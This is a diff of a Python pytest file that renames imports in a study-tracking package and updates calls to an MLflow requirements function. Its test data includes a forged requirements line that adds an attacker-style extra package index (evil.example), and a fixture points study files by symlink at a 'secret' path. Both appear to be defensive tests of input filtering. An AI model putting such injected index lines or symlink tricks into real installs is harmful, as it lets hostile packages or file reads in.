@@ -4,12 +4,12 @@ from pathlib import Path
 
 import pytest
 
-from study.events import Concluded, Finished, SessionStarted
-from study.folder import StudyFolder
-from study.pictures import picture_file
-from study.provenance import recorded_versions
-from study.tracking import mlflow_files as files
-from study.tracking.mlflow_model import requirements
+from study.record.events import Concluded, Finished, SessionStarted
+from study.record.folder import StudyFolder
+from study.record.images import image_file
+from study.record.provenance import recorded_versions
+from study.tracking.mlflow import files
+from study.tracking.mlflow.registry import model_requirements
 
 FORGED = [
     "torch==2.4.6\n--extra-index-url http://evil.example/",
@@ -37,8 +37,8 @@ def test_a_session_s_requirements_are_the_record_s_lines_that_only_name_a_versio
 
 
 def test_the_registered_model_pins_the_version_installed_here_in_place_of_a_forged_one() -> None:
-    assert requirements(FORGED) == requirements(())
-    assert "torch==2.4.6" in requirements(["torch==2.4.6"])
+    assert model_requirements(FORGED) == model_requirements(())
+    assert "torch==2.4.6" in model_requirements(["torch==2.4.6"])
 
 
 @pytest.fixture
@@ -51,7 +51,7 @@ def folder(tmp_path: Path) -> StudyFolder:
         made.changes(1),
         made.results / "ranking.csv",
         made.report,
-        picture_file(made.trial(3), 0),
+        image_file(made.trial(3), 0),
     ):
         path.parent.mkdir(parents=True, exist_ok=True)
         path.symlink_to(tmp_path / "secret")
